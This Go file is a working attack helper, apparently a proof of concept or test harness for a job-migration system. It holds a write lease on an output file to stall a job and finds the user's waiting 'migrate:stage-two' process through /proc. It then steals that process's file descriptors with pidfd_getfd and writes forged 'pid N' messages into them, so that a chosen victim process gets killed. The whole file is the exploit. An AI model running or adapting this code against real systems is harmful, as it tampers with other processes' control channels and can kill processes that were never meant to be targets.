package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// Of pidfd_open(2), pidfd_getfd(2) and fcntl(2).
const (
	sysPidfdOpen, sysPidfdGetfd = 434, 438
	setLease                    = 1024
)

// attack holds up, by a lease on its output file, the start of a job of the same user, looks
// for the stage that waits as that user, and has it say, if it gets at any of what that has
// open, that a victim is the job's first process and is to be killed.
func attack(file string, victim int) error {
	f, err := os.OpenFile(file, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	if _, _, errno := syscall.Syscall(syscall.SYS_FCNTL, f.Fd(), setLease, syscall.F_WRLCK); errno != 0 {
		return fmt.Errorf("lease: %w", errno)
	}
	signal.Ignore(syscall.SIGIO)
	fmt.Println("HELPER HOLDS")
	for end := time.Now().Add(30 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		stage := waitingStage()
		if stage == 0 {
			continue
		}
		fd, _, errno := syscall.Syscall(sysPidfdOpen, uintptr(stage), 0, 0)
		if errno != 0 {
			continue // it has gone on
		}
		for n := range uintptr(16) {
			got, _, errno := syscall.Syscall(sysPidfdGetfd, fd, n, 0)
			if errno != 0 {
				continue
			}
			fmt.Println("HELPER HAS DESCRIPTOR", n)
			_, _ = syscall.Write(int(got), fmt.Appendf(nil, "pid %d\nerror x\n", victim))
		}
		fmt.Println("HELPER HAS TRIED")
		return nil
	}
	return errors.New("no stage came")
}

// waitingStage finds a stage that is our user's already.
func waitingStage() int {
	list, _ := filepath.Glob("/proc/[0-9]*/status")
	for _, path := range list {
		status, err := os.ReadFile(path)
		if err != nil || !strings.Contains(string(status), fmt.Sprintf("\nUid:\t%[1]d\t%[1]d\t%[1]d\t%[1]d\n", os.Getuid())) {
			continue
		}
		line, err := os.ReadFile(filepath.Join(filepath.Dir(path), "cmdline"))
		if err == nil && bytes.HasPrefix(line, []byte("migrate:stage-two")) {
			pid, _ := strconv.Atoi(strings.Split(path, "/")[2]) // it is a number
			return pid
		}
	}
	return 0
}
